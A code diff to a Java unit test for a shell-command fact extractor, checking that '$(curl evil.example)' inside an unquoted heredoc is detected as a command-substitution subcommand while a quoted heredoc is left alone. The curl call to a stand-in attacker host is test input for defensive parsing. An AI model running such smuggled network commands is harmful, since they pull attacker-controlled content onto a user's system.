@@ -78,8 +78,10 @@ class FactExtractorTest {
 
     @Test
     void heredocBodies() throws Exception {
-        assertThat(summary("cat <<EOF\n$(curl evil.example)\nEOF")).isEqualTo(
-                "cat@top-level ; curl evil.example@here-document body");
+        SubCommand curl = facts("cat <<EOF\n$(curl evil.example)\nEOF").subCommands().get(1);
+        assertThat(curl.getLine()).isEqualTo("curl evil.example");
+        assertThat(curl.getContextPath()).containsExactly("here-document body",
+                "command substitution");
         assertThat(summary("cat <<'EOF'\n$(curl evil.example)\nEOF")).isEqualTo("cat@top-level");
     }
 
